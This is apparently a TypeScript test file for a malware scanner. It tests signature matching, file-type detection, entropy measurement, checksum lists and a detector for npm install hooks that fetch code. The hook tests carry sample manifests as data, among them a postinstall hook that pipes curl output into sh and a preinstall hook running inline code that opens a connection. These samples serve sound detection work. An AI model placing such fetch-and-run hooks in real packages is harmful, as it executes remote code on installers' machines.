// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import type { FileSignature, SignedFileKind } from '@bartizan/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { makeSignature, makeSignatureSet } from '../testing/signatures.ts';
import { EntropyMeter } from './entropy.ts';
import { fetchingHooks } from './install-hooks.ts';
import { KnownFileSet } from './known-files.ts';
import { executableRanges, kindOf } from './program-head.ts';
import { compileFileSignatures } from './signature-set.ts';
import { type SignatureResult, SignatureStream } from './signature-stream.ts';

const run = (
  signature: Partial<FileSignature>,
  content: string | Buffer,
  more: { kind?: SignedFileKind; pieceBytes?: number; entropy?: number } = {},
): SignatureResult => {
  const stream = new SignatureStream(makeSignatureSet(makeSignature(signature)), more.kind ?? 'script');
  const bytes = Buffer.from(content);
  const size = more.pieceBytes ?? Math.max(bytes.length, 1);
  for (let at = 0; at < bytes.length; at += size) stream.push(bytes.subarray(at, at + size));
  return stream.end(more.entropy);
};
const fits = (...given: Parameters<typeof run>): boolean => run(...given).hits.length > 0;
const TWO: Partial<FileSignature> = {
  strings: [
    { name: 'one', text: 'first-word' },
    { name: 'two', text: 'second-word' },
    { name: 'bytes', hex: 'deadbeef00' },
  ],
  groups: [
    { of: ['one', 'bytes'], atLeast: 1 },
    { of: ['two'], atLeast: 1 },
  ],
};

describe('a signature', () => {
  it('needs every group, letters in either case, bytes as they are', () => {
    expect(fits(TWO, 'a FIRST-word and a Second-Word')).toBe(true);
    expect(fits(TWO, Buffer.concat([Buffer.from('deadbeef00', 'hex'), Buffer.from('second-word')]))).toBe(
      true,
    );
    expect(fits(TWO, 'first-word first-word')).toBe(false);
    expect(fits(TWO, '')).toBe(false);
  });

  it('is asked of its kinds of file only', () => {
    expect(fits({}, 'harmful-words')).toBe(true);
    expect(fits({}, 'harmful-words', { kind: 'page' })).toBe(false);
  });

  it('holds within so many bytes, wherever the nearest pair is', () => {
    const near = { ...TWO, withinBytes: 64 };
    expect(fits(near, `first-word${' '.repeat(30)}second-word`)).toBe(true);
    expect(fits(near, `first-word${' '.repeat(100)}second-word`)).toBe(false);
    expect(fits(near, `first-word${' '.repeat(500)}first-word second-word`)).toBe(true);
    expect(fits(near, `second-word ${' '.repeat(10)}first-word`)).toBe(true);
  });

  it('counts different strings, not how often one occurs', () => {
    const both = { ...TWO, groups: [{ of: ['one', 'two'], atLeast: 2 }] };
    expect(fits(both, 'first-word first-word')).toBe(false);
    expect(fits(both, 'second-word first-word')).toBe(true);
  });

  it('can ask for density alone, and quotes nothing of the file', () => {
    const dense = { strings: [], groups: [], entropy: 7.2, kinds: ['program' as const] };
    expect(run(dense, 'x', { kind: 'program', entropy: 7.9 }).hits).toEqual([
      { signature: 'malware.test', evidence: ['7.90 bits a byte in the executable parts'] },
    ]);
    expect(fits(dense, 'x', { kind: 'program', entropy: 7.1 })).toBe(false);
    expect(fits(dense, 'x', { kind: 'program' })).toBe(false);
    expect(run({}, 'password=hunter2 harmful-words').hits[0]?.evidence).toEqual(['"words" ends at byte 30']);
  });

  it('finds the same in whatever pieces a file comes', () => {
    const text = `#!/bin/sh\n${'x'.repeat(50)}first-word${'y'.repeat(20)}second-word\n`;
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 60 }), (pieceBytes) => {
        expect(run(TWO, text, { pieceBytes })).toEqual(run(TWO, text));
      }),
      { seed: 7, numRuns: 60 },
    );
  });

  it('stops following a file that is made of its strings, and says so', () => {
    const started = performance.now();
    const result = run({}, 'harmful-words'.repeat(120_000));
    expect(result.isCut).toBe(true);
    expect(result.hits).toHaveLength(1);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it.each<[string, Partial<FileSignature>, string]>([
    [
      'two strings of one name',
      {
        strings: [
          { name: 'a', text: 'aaaa' },
          { name: 'a', text: 'bbbb' },
        ],
      },
      'one name',
    ],
    ['no condition', { groups: [] }, 'no condition'],
    ['a string that is not there', { groups: [{ of: ['other'], atLeast: 1 }] }, 'not there'],
    ['more than a group has', { groups: [{ of: ['words'], atLeast: 2 }] }, 'more than it has'],
    ['a string without content', { strings: [{ name: 'words' }] }, 'neither one text'],
    [
      'text and bytes at once',
      { strings: [{ name: 'words', text: 'aaaa', hex: 'aabbccdd' }] },
      'neither one text',
    ],
  ])('with %s is refused', (_name, more, detail) => {
    const compiled = compileFileSignatures([makeSignature(more)]);
    expect(compiled.ok ? '' : compiled.error.detail).toContain(detail);
  });
});

describe('kinds of file', () => {
  it.each<[string, string, SignedFileKind | undefined]>([
    ['/usr/bin/x', '\x7fELF', 'program'],
    ['/srv/index.php', '<?php', 'page'],
    ['/usr/bin/tool', '#!/usr/bin/python3', 'script'],
    ['/opt/run.sh', 'echo', 'script'],
    ['/etc/cron.d/job', '* * * * *', 'script'],
    ['/root/.bashrc', 'alias', 'script'],
    ['/etc/hosts', '127.0.0.1', undefined],
    ['/empty', '', undefined],
  ])('%s that begins with %j is %s', (path, head, kind) => {
    expect(kindOf(path, Buffer.from(head, 'latin1'))).toBe(kind);
  });

  it('reads no range out of any bytes that lie', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 0, maxLength: 400 }), (bytes) => {
        const head = Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.from(bytes)]);
        for (const { start, end } of executableRanges(head)) {
          expect(Number.isSafeInteger(start) && Number.isSafeInteger(end)).toBe(true);
          expect(end).toBeGreaterThan(start);
        }
      }),
      { seed: 11, numRuns: 2_000 },
    );
  });
});

describe('EntropyMeter', () => {
  const measure = (
    bytes: Buffer,
    pieceBytes: number,
    ranges = [{ start: 0, end: bytes.length }],
  ): number | undefined => {
    const meter = new EntropyMeter(ranges);
    for (let at = 0; at < bytes.length; at += pieceBytes) meter.push(bytes.subarray(at, at + pieceBytes));
    return meter.value();
  };
  const even = Buffer.from(Uint8Array.from({ length: 65_536 }, (_, at) => at % 256));

  it('knows the two ends of the scale, and says nothing of too little', () => {
    expect(measure(even, 1000)).toBeCloseTo(8);
    expect(measure(Buffer.alloc(65_536), 4096)).toBe(0);
    expect(measure(even.subarray(0, 4096), 4096)).toBeUndefined();
  });

  it('counts the ranges only, whatever the pieces', () => {
    const file = Buffer.concat([Buffer.alloc(10_000), even, Buffer.alloc(10_000)]);
    const range = [{ start: 10_000, end: 10_000 + even.length }];
    for (const size of [1, 999, 100_000]) expect(measure(file, size, range)).toBeCloseTo(8);
    expect(measure(file, 4096, [])).toBeUndefined();
  });
});

describe('installation scripts', () => {
  it.each([
    [
      '{"scripts":{"postinstall":"curl -s https://x/y | sh"}}',
      [{ hook: 'postinstall', calls: ['curl', 'a URL'] }],
    ],
    [
      '{"scripts":{"preinstall":"node -e \\"require(\'http\').get(1)\\""}}',
      [{ hook: 'preinstall', calls: ['inline code that opens a connection'] }],
    ],
    ['{"scripts":{"postinstall":"node-gyp rebuild","test":"curl x"}}', []],
    ['{"scripts":{"install":7}}', []],
    ['not json', []],
    ['[]', []],
  ])('of %s', (manifest, hooks) => {
    expect(fetchingHooks(manifest)).toEqual(hooks);
  });

  it('take no time on a hostile text', () => {
    const started = performance.now();
    fetchingHooks(JSON.stringify({ scripts: { install: `${'node -e '.repeat(2_000)}x` } }));
    fetchingHooks(JSON.stringify({ scripts: { install: `base64 ${' '.repeat(16_000)}` } }));
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});

describe('a list of known files', () => {
  const SUM = 'ab'.repeat(32);
  it('takes a checksum a line, with a name or without, and comments', () => {
    const set = new KnownFileSet();
    expect(
      set.addList(Buffer.from(`# list\n${SUM.toUpperCase()}  *bot\n\n${'cd'.repeat(32)}\r\n`), 'mine'),
    ).toMatchObject({ ok: true });
    expect([set.size, set.nameOf(SUM), set.nameOf('cd'.repeat(32)), set.nameOf('00')]).toEqual([
      2,
      'bot',
      'mine',
      undefined,
    ]);
  });

  it('is refused whole when a line is none', () => {
    const result = new KnownFileSet().addList(
      Buffer.from(`${SUM}\nd41d8cd98f00b204e9800998ecf8427e\n`),
      'mine',
    );
    expect(result).toMatchObject({
      ok: false,
      error: { code: 'E_MALWARE_LIST', detail: 'mine: line 2 is no SHA-256' },
    });
  });

  it('has another version when it says something else', () => {
    const [one, two] = [new KnownFileSet(), new KnownFileSet()];
    expect(one.version).toBe(two.version);
    one.add(SUM, 'a');
    expect(one.version).not.toBe(two.version);
  });
});
